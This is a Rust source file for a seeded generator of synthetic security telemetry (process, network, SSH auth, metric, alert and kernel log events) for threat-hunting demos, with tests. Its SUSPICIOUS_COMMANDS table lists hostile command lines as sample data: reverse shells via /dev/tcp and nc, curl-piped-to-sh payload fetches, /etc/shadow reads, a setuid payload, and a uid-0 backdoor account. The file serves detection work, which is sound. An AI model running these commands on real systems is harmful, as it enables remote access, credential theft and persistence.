//! A seeded generator of realistic synthetic corpora: process, network, auth,
//! metric, alert and log events from many hosts, drawn from templates with
//! variety, plus a sprinkle of attacker behaviour for hunts to find. The same
//! seed and settings always give the same events.

use std::net::{IpAddr, Ipv4Addr};

use chrono::{DateTime, Duration, Utc};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::json;
use vigil_event::{Endpoint, Event, Kind, Process, Severity};

/// Settings for [`Generator`].
#[derive(Debug, Clone)]
pub struct GeneratorConfig {
    pub seed: u64,
    pub hosts: usize,
    /// Events are spread evenly (with jitter) over `[start, end)`.
    pub start: DateTime<Utc>,
    pub end: DateTime<Utc>,
    /// How many events to produce.
    pub count: u64,
}

impl GeneratorConfig {
    /// `count` events over the `span` that ends at `end`.
    pub fn recent(count: u64, span: Duration, end: DateTime<Utc>) -> Self {
        GeneratorConfig { seed: 42, hosts: 50, start: end - span, end, count }
    }
}

/// One of the generator's hosts: `web-01`, `db-01`, … by role.
#[derive(Debug, Clone)]
pub struct Host {
    pub name: String,
    pub ip: Ipv4Addr,
    pub role: Role,
}

/// What a generated host is for (every fifth host is a db, a worker, a
/// bastion; the rest are web servers).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Role {
    Web,
    Db,
    Worker,
    Bastion,
}

impl Role {
    /// The host name prefix: `web`, `db`, `worker`, `bastion`.
    pub fn as_str(self) -> &'static str {
        match self {
            Role::Web => "web",
            Role::Db => "db",
            Role::Worker => "worker",
            Role::Bastion => "bastion",
        }
    }
}

/// (name, executable, command line). The executable is the real path on
/// Debian 12 with merged /usr, as `/proc/<pid>/exe` gives it (symlinks such
/// as `/bin/sh` → `dash` and `python3` → `python3.11` resolved), so it is a
/// file that the owning package lists (the demo's inventory relies on it).
const BENIGN_COMMANDS: &[(&str, &str, &str)] = &[
    ("nginx", "/usr/sbin/nginx", "/usr/sbin/nginx -g daemon off;"),
    ("python3", "/usr/bin/python3.11", "/usr/bin/python3 /opt/app/worker.py --queue default"),
    ("sh", "/usr/bin/dash", "/bin/sh -c /usr/lib/php/sessionclean"),
    ("apt-get", "/usr/bin/apt-get", "/usr/bin/apt-get -qq update"),
    ("curl", "/usr/bin/curl", "/usr/bin/curl -fsS http://127.0.0.1:8080/health"),
    ("logrotate", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
    ("ps", "/usr/bin/ps", "ps aux --sort=-%cpu"),
    ("git", "/usr/bin/git", "/usr/bin/git -C /srv/app pull --ff-only"),
    ("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: autovacuum worker"),
    ("systemctl", "/usr/bin/systemctl", "systemctl status nginx.service"),
    ("journalctl", "/usr/bin/journalctl", "journalctl -u ssh --since -1h"),
    ("tar", "/usr/bin/tar", "tar czf /backup/app-nightly.tgz /srv/app"),
    ("rsync", "/usr/bin/rsync", "rsync -a /srv/app/ backup-01:/backup/app/"),
    ("node", "/usr/bin/node", "/usr/bin/node /srv/api/server.js"),
    ("ls", "/usr/bin/ls", "ls -la /var/log/nginx"),
    ("grep", "/usr/bin/grep", "grep -c ERROR /var/log/app/app.log"),
    ("du", "/usr/bin/du", "du -sh /var/lib/docker"),
    ("find", "/usr/bin/find", "find /tmp -mtime +7 -delete"),
];

/// Attacker tradecraft (name, executable, command line, severity), with
/// `{ip}` standing for an external address.
const SUSPICIOUS_COMMANDS: &[(&str, &str, &str, Severity)] = &[
    ("cat", "/usr/bin/cat", "cat /etc/shadow", Severity::High),
    ("tail", "/usr/bin/tail", "tail -n 10 /etc/shadow", Severity::High),
    ("bash", "/usr/bin/bash", "bash -i >& /dev/tcp/{ip}/4444 0>&1", Severity::Critical),
    ("nc", "/usr/bin/nc.openbsd", "nc -e /bin/sh {ip} 9001", Severity::Critical),
    ("sh", "/usr/bin/dash", "curl -s http://{ip}/x.sh | sh", Severity::High),
    ("wget", "/usr/bin/wget", "wget -q http://{ip}/m -O /tmp/.m", Severity::Medium),
    ("chmod", "/usr/bin/chmod", "chmod u+s /tmp/.m", Severity::High),
    ("python3", "/usr/bin/python3.11", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", Severity::High),
    ("useradd", "/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc-backup", Severity::Critical),
    ("crontab", "/usr/bin/crontab", "crontab -l", Severity::Low),
    ("base64", "/usr/bin/base64", "base64 -d /tmp/.p | bash", Severity::High),
];

/// Every executable the generator's process events name.
pub fn executables() -> impl Iterator<Item = &'static str> {
    BENIGN_COMMANDS.iter().map(|c| c.1).chain(SUSPICIOUS_COMMANDS.iter().map(|c| c.1))
}

const ALERTS: &[(&str, Severity)] = &[
    ("Reverse shell spawned from web server process", Severity::Critical),
    ("Credential file read by non-root process", Severity::High),
    ("SSH brute force: more than 20 failures in 1 minute", Severity::High),
    ("Outbound connection to known C2 port 4444", Severity::Critical),
    ("New setuid binary in /tmp", Severity::High),
    ("Package manager run outside maintenance window", Severity::Medium),
];

const USERS: &[&str] = &["root", "www-data", "postgres", "alice", "bob", "deploy", "backup"];
const ATTACK_USERS: &[&str] = &["admin", "test", "oracle", "ubuntu", "pi", "git", "guest", "root"];

/// Produces [`GeneratorConfig::count`] events in time order.
#[derive(Debug)]
pub struct Generator {
    rng: StdRng,
    cfg: GeneratorConfig,
    hosts: Vec<Host>,
    attackers: Vec<IpAddr>,
    produced: u64,
}

impl Generator {
    pub fn new(cfg: GeneratorConfig) -> Self {
        let mut rng = StdRng::seed_from_u64(cfg.seed);
        const ROLES: [Role; 5] = [Role::Web, Role::Web, Role::Worker, Role::Db, Role::Bastion];
        let hosts = (0..cfg.hosts.max(1))
            .map(|i| {
                let role = ROLES[i % 5];
                // Numbered per role (web-01 … web-20, db-01 …), so every host has its own name.
                let nth = (i / 5) * ROLES.iter().filter(|r| **r == role).count()
                    + ROLES[..i % 5].iter().filter(|r| **r == role).count();
                Host {
                    name: format!("{}-{:02}", role.as_str(), nth + 1),
                    ip: Ipv4Addr::new(10, 0, (i / 250) as u8, (i % 250 + 2) as u8),
                    role,
                }
            })
            .collect();
        let attackers = (0..12)
            .map(|_| {
                IpAddr::V4(Ipv4Addr::new(
                    rng.random_range(23..223),
                    rng.random(),
                    rng.random(),
                    rng.random_range(1..254),
                ))
            })
            .collect();
        Generator { rng, cfg, hosts, attackers, produced: 0 }
    }

    /// The hosts the events come from.
    pub fn hosts(&self) -> &[Host] {
        &self.hosts
    }

    fn time(&mut self, i: u64) -> DateTime<Utc> {
        let span = (self.cfg.end - self.cfg.start).num_microseconds().unwrap_or(0).max(1);
        let step = span / self.cfg.count.max(1) as i64;
        let jitter = if step > 1 { self.rng.random_range(0..step) } else { 0 };
        self.cfg.start + Duration::microseconds(step * i as i64 + jitter)
    }

    fn event(&mut self, i: u64) -> Event {
        let time = self.time(i);
        let host = self.hosts[self.rng.random_range(0..self.hosts.len())].clone();
        let roll: u32 = self.rng.random_range(0..1000);
        let mut e = match roll {
            0..=399 => self.process(time, &host, i),
            400..=679 => self.network(time, &host, i),
            680..=829 => self.auth(time, &host, i),
            830..=949 => self.metric(time, &host, i),
            950..=969 => self.alert(time, &host, i),
            _ => self.log(time, &host, i),
        };
        e.host = Some(host.name);
        e
    }

    fn base(&self, kind: Kind, source: &str, time: DateTime<Utc>, i: u64) -> Event {
        let seed = self.cfg.seed;
        Event::new(kind, source, time, format!("gen:{seed}:{i}").as_bytes())
    }

    fn process(&mut self, time: DateTime<Utc>, host: &Host, i: u64) -> Event {
        let mut e = self.base(Kind::Process, "vigil-agent", time, i);
        let suspicious = self.rng.random_range(0..100) == 0;
        let (name, exe, cmd, sev) = if suspicious {
            let (n, x, c, s) = SUSPICIOUS_COMMANDS[self.rng.random_range(0..SUSPICIOUS_COMMANDS.len())];
            let ip = self.attackers[self.rng.random_range(0..self.attackers.len())];
            (n, x, c.replace("{ip}", &ip.to_string()), s)
        } else {
            let (n, x, c) = BENIGN_COMMANDS[self.rng.random_range(0..BENIGN_COMMANDS.len())];
            (n, x, c.to_string(), Severity::Info)
        };
        let user = if suspicious && matches!(host.role, Role::Web) {
            "www-data"
        } else {
            USERS[self.rng.random_range(0..USERS.len())]
        };
        let exit = self.rng.random_range(0..10) < 3;
        e.activity_id = Some(if exit { 2 } else { 1 });
        e.severity = if exit { Severity::Info } else { sev };
        let pid = self.rng.random_range(300..65_000);
        e.user = Some(user.into());
        e.process = Some(Process {
            pid: Some(pid),
            ppid: Some(self.rng.random_range(1..pid)),
            name: Some(name.into()),
            path: Some(exe.into()),
            cmdline: Some(cmd.clone()),
        });
        e.message = format!("process {} by {user}: {cmd}", if exit { "exited" } else { "started" });
        e.raw = json!({"event": if exit { "exit" } else { "exec" }, "pid": pid, "cmdline": cmd, "user": user});
        e
    }

    fn network(&mut self, time: DateTime<Utc>, host: &Host, i: u64) -> Event {
        let mut e = self.base(Kind::Network, "vigil-agent", time, i);
        let peer = self.hosts[self.rng.random_range(0..self.hosts.len())].ip;
        let (port, proto, process) = match self.rng.random_range(0..6) {
            0 => (443, "tcp", "nginx"),
            1 => (5432, "tcp", "python3"),
            2 => (53, "udp", "systemd-resolved"),
            3 => (22, "tcp", "ssh"),
            4 => (4222, "tcp", "vigil-agent"),
            _ => (80, "tcp", "curl"),
        };
        let c2 = self.rng.random_range(0..400) == 0;
        let (dst, port, process) = if c2 {
            (self.attackers[self.rng.random_range(0..self.attackers.len())], 4444, "bash")
        } else {
            (IpAddr::V4(peer), port, process)
        };
        let sport = self.rng.random_range(32_768..61_000);
        let (sent, recv) = (self.rng.random_range(60..200_000u64), self.rng.random_range(60..2_000_000u64));
        e.activity_id = Some(1);
        e.severity = if c2 { Severity::Medium } else { Severity::Info };
        e.src = Some(Endpoint { ip: IpAddr::V4(host.ip), port: Some(sport) });
        e.dst = Some(Endpoint { ip: dst, port: Some(port) });
        e.protocol = Some(proto.into());
        e.process = Some(Process {
            pid: Some(self.rng.random_range(300..65_000)),
            name: Some(process.into()),
            ..Default::default()
        });
        e.message = format!("{process} {proto} {}:{sport} -> {dst}:{port} {sent}B/{recv}B", host.ip);
        e.raw = json!({"bytes_out": sent, "bytes_in": recv, "state": "established"});
        e
    }

    fn auth(&mut self, time: DateTime<Utc>, host: &Host, i: u64) -> Event {
        let mut e = self.base(Kind::Auth, "sshd", time, i);
        let attack = self.rng.random_range(0..3) == 0;
        let (user, ip, ok) = if attack {
            (
                ATTACK_USERS[self.rng.random_range(0..ATTACK_USERS.len())],
                self.attackers[self.rng.random_range(0..4)],
                false,
            )
        } else {
            let ok = self.rng.random_range(0..20) != 0;
            (
                USERS[self.rng.random_range(3..USERS.len())],
                IpAddr::V4(Ipv4Addr::new(10, 0, 0, self.rng.random_range(2..250))),
                ok,
            )
        };
        let port = self.rng.random_range(32_768..61_000);
        e.activity_id = Some(1);
        e.status_id = Some(if ok { 1 } else { 2 });
        e.severity = if ok { Severity::Info } else { Severity::Low };
        e.user = Some(user.into());
        e.src = Some(Endpoint { ip, port: Some(port) });
        e.dst = Some(Endpoint { ip: IpAddr::V4(host.ip), port: Some(22) });
        e.protocol = Some("ssh".into());
        e.process = Some(Process {
            pid: Some(self.rng.random_range(300..65_000)),
            name: Some("sshd".into()),
            ..Default::default()
        });
        e.message = if ok {
            format!("Accepted publickey for {user} from {ip} port {port} ssh2")
        } else {
            format!("Failed password for {user} from {ip} port {port} ssh2")
        };
        e.raw = json!({"line": e.message});
        e
    }

    fn metric(&mut self, time: DateTime<Utc>, host: &Host, i: u64) -> Event {
        let mut e = self.base(Kind::Metric, "vigil-agent", time, i);
        let base = match host.role {
            Role::Db => 55.0,
            Role::Web => 35.0,
            _ => 15.0,
        };
        let cpu = (base + self.rng.random_range(-10.0..30.0f64)).clamp(0.0, 100.0);
        let mem = self.rng.random_range(20.0..90.0f64);
        e.severity = if cpu > 90.0 { Severity::Medium } else { Severity::Info };
        e.message = format!("cpu {cpu:.1}% mem {mem:.1}%");
        e.raw = json!({"cpu_pct": (cpu * 10.0).round() / 10.0, "mem_pct": (mem * 10.0).round() / 10.0, "load1": (cpu / 25.0 * 100.0).round() / 100.0});
        e
    }

    fn alert(&mut self, time: DateTime<Utc>, host: &Host, i: u64) -> Event {
        let mut e = self.base(Kind::Alert, "vigil", time, i);
        let (title, sev) = ALERTS[self.rng.random_range(0..ALERTS.len())];
        e.severity = sev;
        e.activity_id = Some(1);
        e.message = format!("{title} on {}", host.name);
        e.raw = json!({"rule": title, "host_ip": host.ip.to_string()});
        e
    }

    fn log(&mut self, time: DateTime<Utc>, _host: &Host, i: u64) -> Event {
        let mut e = self.base(Kind::Log, "kernel", time, i);
        let lines = [
            "TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.",
            "EXT4-fs (vda1): re-mounted. Opts: errors=remount-ro",
            "nf_conntrack: table full, dropping packet",
            "Out of memory: Killed process 4242 (python3)",
        ];
        let line = lines[self.rng.random_range(0..lines.len())];
        e.severity =
            if line.contains("Killed") || line.contains("dropping") { Severity::Medium } else { Severity::Info };
        e.message = line.into();
        e.raw = json!({"line": line});
        e
    }
}

impl Iterator for Generator {
    type Item = Event;

    fn next(&mut self) -> Option<Event> {
        if self.produced >= self.cfg.count {
            return None;
        }
        let i = self.produced;
        self.produced += 1;
        Some(self.event(i))
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    fn cfg(seed: u64) -> GeneratorConfig {
        GeneratorConfig { seed, ..GeneratorConfig::recent(5_000, Duration::hours(24), Utc::now()) }
    }

    #[test]
    fn same_seed_same_events() {
        let c = cfg(7);
        let a: Vec<Event> = Generator::new(c.clone()).collect();
        let b: Vec<Event> = Generator::new(c).collect();
        assert_eq!(a.len(), 5_000);
        assert_eq!(a, b);
        let other: Vec<Event> = Generator::new(cfg(8)).take(10).collect();
        assert_ne!(a[..10], other[..]);
    }

    #[test]
    fn events_are_valid_varied_ordered_and_unique() {
        let c = cfg(1);
        let events: Vec<Event> = Generator::new(c.clone()).collect();
        for e in &events {
            e.validate().unwrap();
            assert!(e.time >= c.start && e.time < c.end);
        }
        assert!(events.windows(2).all(|w| w[0].time <= w[1].time), "events come in time order");
        let kinds: std::collections::HashSet<_> = events.iter().map(|e| e.kind).collect();
        assert!(kinds.len() >= 6, "all kinds appear: {kinds:?}");
        let ids: std::collections::HashSet<_> = events.iter().map(|e| e.id).collect();
        assert_eq!(ids.len(), events.len());
        assert!(events.iter().any(|e| e.severity >= Severity::High), "some events are worth hunting");
        let names: std::collections::HashSet<_> = Generator::new(c).hosts().iter().map(|h| h.name.clone()).collect();
        assert_eq!(names.len(), 50, "each host has its own name");
        assert!(names.contains("web-20") && names.contains("bastion-10"), "{names:?}");
    }
}
